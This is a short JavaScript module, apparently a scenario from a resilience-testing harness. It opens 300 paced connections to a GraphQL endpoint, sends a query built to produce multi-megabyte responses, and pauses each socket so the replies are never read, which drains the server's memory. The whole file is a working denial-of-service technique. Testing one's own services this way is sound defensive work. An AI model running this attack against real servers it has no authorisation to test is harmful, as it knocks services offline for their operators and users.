// 300 connections that ask for responses of some megabytes and read none. They come one after the other, because
// making the responses takes time from others too, and it is the memory that is attacked here.
import { keepConnections, post } from "../sockets.mjs";

const CONNECTIONS = 300;
const PER_SECOND = 10;

export const LARGE = `{ items(first: 1000) { ${
  Array.from({ length: 40 }, (_, index) => `d${index}: description`).join(" ")
} } }`;

export default {
  run({ graphql, signal, sent }) {
    const request = post(graphql, JSON.stringify({ query: LARGE }));
    keepConnections(CONNECTIONS, graphql, signal, (socket) => {
      sent();
      socket.pause();
      socket.write(request);
    }, PER_SECOND);
  },
};
